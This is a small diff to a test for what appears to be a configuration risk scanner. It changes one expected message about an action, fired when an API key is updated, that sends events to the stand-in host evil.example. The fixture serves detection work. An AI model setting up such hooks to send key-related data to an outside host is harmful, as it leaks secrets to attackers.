@@ -50,7 +50,7 @@ it('an action with a key in its address is critical, also with -invoke, where a 
   const more = key('ci', { called: 'other', more: trigger });
   expect(risksOf(await report(more + action('https://evil.example/')))).toEqual([
     'medium key-renamed: key ci is renamed to other; its value goes on working',
-    `medium action-invoked: ${named} is invoked AfterUpdate of svc_api_key.ci and sends events to evil.example`,
+    `medium action-invoked: ${named} is invoked after_update of svc_api_key.ci and sends events to evil.example`,
   ]);
 });
 
